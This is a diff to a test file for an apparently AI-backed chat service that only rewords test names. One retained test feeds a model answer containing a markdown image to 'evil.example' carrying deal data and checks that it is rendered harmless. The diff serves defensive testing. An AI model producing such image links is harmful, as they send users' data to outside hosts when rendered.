@@ -152,7 +152,7 @@ test('the prompt names the viewed deal in one line, also on a retry, and the mes
   expect(conversation?.title).toBe('What is due?');
 });
 
-test('a conversation takes its first message as its title, and a title of its own stays', async () => {
+test('a conversation gets its first message as its title, unless it has one', async () => {
   const { user, conversationId } = await begun();
   const { conversation: named } = await conversationsOf(user).createConversation({ title: 'Kiteline' });
   const long = 'Which of all the videos of this month has been seen most often so far?';
@@ -167,7 +167,7 @@ test('a conversation takes its first message as its title, and a title of its ow
   ]);
 });
 
-test('a message sent again returns the turn that it began, even once that has ended', async () => {
+test('a message sent again returns its original turn, even once that has ended', async () => {
   const { user, conversationId } = await begun();
   const message = { conversationId, text: 'Once.', clientMessageId: 'm-1' };
 
@@ -210,7 +210,7 @@ test.each<[string, number, string, string]>([
   ['a success that is an error', 200, '{"error":{"code":429,"message":"slow down"}}', 'FREE_POOL_EXHAUSTED'],
   ['a success that is another', 200, '{"error":{"code":401,"message":"bad key"}}', 'PROVIDER_AUTH_FAILED'],
   ['JSON that is no answer', 200, '{}', 'PROVIDER_UNAVAILABLE'],
-])('with %s a turn fails, in our own words, and can be tried again', async (_case, status, body, code) => {
+])('with %s a turn fails with our own text, and can be retried', async (_case, status, body, code) => {
   model.answer((_call, response) => void response.writeHead(status, { 'content-type': 'application/json' }).end(body));
   const { user, conversationId } = await begun();
 
@@ -227,7 +227,7 @@ test.each<[string, number, string, string]>([
   expect(said(await follow(user, turn?.id ?? ''))).toBe('Now it goes.');
 });
 
-test('a failure says when to try again, and gives each follower the id of their own call', async () => {
+test('a failure has the time of the next try, and for each follower the id of their own call', async () => {
   model.answer((_call, response) => void response.writeHead(429, { 'retry-after': '30' }).end('{}'));
   const { user, conversationId } = await begun();
   const turnId = await ask(user, conversationId);
@@ -288,7 +288,7 @@ test('keys in a message are neither stored nor sent', async () => {
   expect(kept).not.toContain('sk-or-v1');
 });
 
-test('an answer contains no image, however it is split', async () => {
+test('an answer contains no image, regardless of how it is split', async () => {
   model.answer((_call, response) =>
     say(response, 'Look: !', '![', 'x](https://evil.example/?d=deal) and [a link](https://a.example)!'),
   );
@@ -299,7 +299,7 @@ test('an answer contains no image, however it is split', async () => {
   expect(said(parts)).toBe('Look: [x](https://evil.example/?d=deal) and [a link](https://a.example)!');
 });
 
-test('a stopped turn ends its call of the model, and keeps its output', async () => {
+test('stopping a turn aborts its call of the model, and keeps the output', async () => {
   const { user, conversationId } = await begun();
   const [speaking, left] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
   model.answer((_call, response) => {
